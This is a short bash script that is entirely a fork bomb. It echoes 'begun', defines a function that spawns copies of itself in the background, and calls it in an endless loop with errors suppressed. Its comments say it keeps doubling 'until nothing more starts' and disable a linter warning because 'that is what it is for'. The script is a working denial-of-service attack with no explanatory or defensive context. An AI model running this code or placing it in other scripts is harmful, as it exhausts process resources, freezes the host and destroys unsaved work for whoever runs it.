#!/bin/bash
# Doubles until nothing more starts, and goes on trying. Says when it has begun.
echo begun
# shellcheck disable=SC2264 # that is what it is for
bomb() { bomb | bomb & }
while :; do bomb 2>/dev/null; done
